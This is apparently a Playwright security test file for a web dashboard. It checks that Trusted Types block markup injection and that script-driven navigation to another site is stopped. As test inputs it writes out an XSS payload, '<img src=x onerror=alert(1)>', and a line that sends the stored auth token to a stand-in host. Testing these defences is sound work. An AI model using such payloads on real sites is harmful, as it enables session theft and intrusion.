/** What the browser refuses to a script that got into the page. */
import { expect, test } from './support/holdfast.ts';

test('Trusted Types are enforced, and no script carries the token to another site', async ({ page, holdfast }) => {
  await holdfast.signInAdmin(page);
  await page.goto(`${holdfast.url}/dashboard`);
  await expect(page.getByRole('banner')).toBeVisible();

  await test.step('text is no markup', async () => {
    const refused = await page.evaluate(() => {
      const refusals: string[] = [];
      for (const attempt of [
        () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror=alert(1)>' }),
        () => document.write('<p>'),
        () => new DOMParser().parseFromString('<p>', 'text/html'),
        () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (text: string) => text }),
      ]) {
        try {
          attempt();
        } catch (error) {
          refusals.push(error instanceof Error ? error.name : 'refused');
        }
      }
      return refusals;
    });
    expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  });

  await test.step('the page still moves: the progress bar and the toasts are drawn', async () => {
    const problems: string[] = [];
    page.on('pageerror', (error) => problems.push(error.message));
    await page.goto(`${holdfast.url}/profile`);
    await page.getByLabel('First name').fill('Ada');
    await page.getByRole('button', { name: 'Save' }).first().click();
    await expect(page.getByRole('alert').first()).toBeVisible();
    await page.goto(`${holdfast.url}/dashboard`);
    await expect(page.getByRole('banner')).toBeVisible();
    expect(problems).toEqual([]);
  });

  await test.step('a navigation by script to another site does not leave the page', async () => {
    const left: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(holdfast.url)) left.push(request.url());
    });
    await page.evaluate(() => location.assign(`https://elsewhere.example/?${localStorage.getItem('authToken')}`));
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: 'https://elsewhere.example/two' });
      document.body.append(link);
      link.click();
    });
    await expect(page.getByRole('banner')).toBeVisible();
    expect(left).toEqual([]);
    expect(page.url()).toBe(`${holdfast.url}/dashboard`);
  });
});
